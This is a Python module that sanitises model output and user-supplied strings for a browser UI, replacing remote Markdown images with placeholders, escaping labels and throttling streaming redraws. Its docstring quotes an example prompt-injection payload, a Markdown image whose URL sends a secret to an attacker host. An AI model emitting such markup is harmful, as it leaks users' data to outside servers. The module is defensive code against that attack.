"""Text shown in the browser without letting data fetch anything or become a link.

A prompt-injected reply can carry `![x](https://attacker/?q=<secret>)`: rendered as Markdown, the viewer's browser
fetches it the moment it appears. So:
- `model_markdown(text)`: model output (and the messages people write) keep their Markdown, but images from
  remote URLs become a placeholder with the URL as code text (an opt-in setting may allow them);
- `plain(text)`: any other user- or data-supplied string (model ids, tags, names, descriptions from an imported
  file) put into Markdown — captions, labels, headings — shows as literal text: no formatting, no image, no link;
- `chart_label(text)`: Plotly treats `<a href>`, `<b>` and friends in trace names and ticks as markup: escaped.
"""
from __future__ import annotations

import html
import re
import time
from collections.abc import Callable, Iterable, Iterator

# ![alt](url "title") — the URL may sit in <…>; alt may hold nested brackets one level deep.
_INLINE_IMAGE = re.compile(r"!\[((?:[^\[\]]|\[[^\[\]]*\])*)\]\(\s*(<[^>]*>|[^\s)]*)(\s+(?:\"[^\"]*\"|'[^']*'|"
                           r"\([^)]*\)))?\s*\)")
_REFERENCE_IMAGE = re.compile(r"!\[((?:[^\[\]]|\[[^\[\]]*\])*)\]\[([^\]]*)\]")
_REFERENCE_DEFINITION = re.compile(r"^ {0,3}\[([^\]]+)\]:\s*(<[^>]*>|\S+)", re.M)
_HTML_IMG = re.compile(r"<img\b[^>]*>", re.I)
# Characters that start Markdown (or Streamlit's :directive[…] / $math$) anywhere in a line; a line start needs more.
_MARKDOWN_PUNCTUATION = re.compile(r"([\\`*_\[\]!|<>~:$&])")
_LINE_START = re.compile(r"^(\s*)(?:([#>+\-=])|(\d+)([.)]))")


def _is_remote(url: str) -> bool:
    """Anything the browser would fetch from elsewhere: a scheme other than data:, or protocol-relative."""
    url = url.strip().strip("<>").strip()
    return bool(re.match(r"^(?:[a-zA-Z][\w+.-]*:|//)", url)) and not url.lower().startswith("data:")


def code_text(text: str) -> str:
    """Text as an inline code span (never a link, never formatted), whatever backticks it holds."""
    text = text.replace("\n", " ")
    longest = max((len(m) for m in re.findall(r"`+", text)), default=0)
    fence = "`" * (longest + 1)
    pad = " " if text.startswith("`") or text.endswith("`") or not text.strip() else ""
    return f"{fence}{pad}{text}{pad}{fence}"


def _placeholder(alt: str, url: str) -> str:
    url = url.strip().strip("<>").strip()
    label = f"{alt.strip()} — " if alt.strip() else ""
    return f"🖼️ *image not loaded:* {plain(label)}{code_text(url)}"


def model_markdown(text: str, allow_remote_images: bool = False) -> str:
    """Markdown from a model (or typed by someone) with every remote image replaced by a placeholder."""
    if allow_remote_images or "![" not in text and "<img" not in text.lower():
        return text
    definitions = {m.group(1).strip().lower(): m.group(2) for m in _REFERENCE_DEFINITION.finditer(text)}

    def inline(match: re.Match[str]) -> str:
        alt, url = match.group(1), match.group(2)
        return _placeholder(alt, url) if _is_remote(url) else match.group(0)

    def reference(match: re.Match[str]) -> str:
        alt, ref = match.group(1), match.group(2) or match.group(1)
        url = definitions.get(ref.strip().lower())
        return _placeholder(alt, url) if url is not None and _is_remote(url) else match.group(0)

    text = _INLINE_IMAGE.sub(inline, text)
    text = _REFERENCE_IMAGE.sub(reference, text)
    # Collapsed and shortcut references (![alt][] and ![alt]) resolve through a definition too.
    text = re.sub(r"!\[([^\[\]]+)\](?!\(|\[)", lambda m: _placeholder(m.group(1), definitions[m.group(1).lower()])
                  if m.group(1).lower() in definitions and _is_remote(definitions[m.group(1).lower()])
                  else m.group(0), text)
    return _HTML_IMG.sub(lambda m: code_text(m.group(0)), text)  # shown as text even if HTML were on


def plain(text: object) -> str:
    """A data string inside Markdown as literal text: punctuation escaped, and as a code span when it holds a
    URL (Markdown would otherwise turn it into a link)."""
    value = "" if text is None else str(text)
    if re.search(r"(?i)(?:[a-z][\w+.-]*://|www\.|mailto:|@[\w-]+\.[a-z])", value):
        return code_text(value)
    escaped = _MARKDOWN_PUNCTUATION.sub(r"\\\1", value.replace("\n", " "))
    return _LINE_START.sub(lambda m: m.group(1) + ("\\" + m.group(2) if m.group(2) else
                                                   m.group(3) + "\\" + m.group(4)), escaped)


def chart_label(text: object) -> str:
    """A trace name or category for Plotly: its HTML subset (links, bold, line breaks) escaped."""
    return html.escape("" if text is None else str(text), quote=False)


FRAME_INTERVAL_S = 0.05  # a streaming reply is redrawn at most 20 times a second


def frames(deltas: Iterable[str], interval_s: float = FRAME_INTERVAL_S,
           clock: Callable[[], float] = time.monotonic) -> Iterator[str]:
    """The texts to draw while a reply streams in: the first piece at once, then at most one per `interval_s`,
    and always the whole reply last (a piece that comes within `interval_s` of a redraw shows with the next piece).
    Each redraw sends, and the browser re-renders, the whole reply so far: one per token cost ~2.5 ms of browser
    and ~0.4 ms of server CPU per token more (a real browser with the offline model on a 2-core machine), CPU that
    the model's own threads were waiting for."""
    parts: list[str] = []
    drawn, last = 0, 0.0
    for delta in deltas:
        parts.append(delta)
        now = clock()
        if drawn == 0 or now - last >= interval_s:
            drawn, last = len(parts), now
            yield "".join(parts)
    if len(parts) > drawn:
        yield "".join(parts)
